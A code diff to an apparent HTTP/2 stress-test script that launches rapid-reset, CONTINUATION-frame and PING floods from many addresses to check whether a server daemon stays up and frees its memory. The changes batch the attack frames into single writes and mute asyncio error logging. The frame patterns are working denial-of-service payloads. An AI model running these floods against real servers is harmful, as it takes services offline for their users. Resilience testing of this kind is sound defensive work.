@@ -7,6 +7,7 @@ daemon's memory did not come back. Each attacker comes from an address of its ow
 import asyncio
 import functools
 import http.client
+import logging
 import os
 import ssl
 import statistics
@@ -128,12 +129,10 @@ async def flood(index, end, counts, kind):
             reader, writer = await opened(address, "h2")
             writer.write(BEGIN)
             if kind == "resets":
-                for stream in range(1, 2001, 2):
-                    writer.write(frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08"))
+                writer.write(b"".join(
+                    frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(1, 2001, 2)))
             elif kind == "continuations":
-                writer.write(frame(1, 0, 1, block()))
-                for number in range(2000):
-                    writer.write(frame(9, 0, 1, b"\0\x01x\x40" + b"a" * 64))
+                writer.write(frame(1, 0, 1, block()) + frame(9, 0, 1, b"\0\x01x\x40" + b"a" * 64) * 2000)
             else:
                 writer.write(frame(6, 0, 0, bytes(8)) * 2000)
             await asyncio.wait_for(writer.drain(), 10)
@@ -206,6 +205,8 @@ def main():
 
 
 if sys.argv[1:] == ["attack"]:
+    # It would say of every connection that was closed upon it that it was.
+    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
     totals = {"open": 0, "refused": 0, "resets": 0, "continuations": 0, "pings": 0}
     asyncio.run(attack(SECONDS, totals))
     print(f"  attackers: {totals}", flush=True)
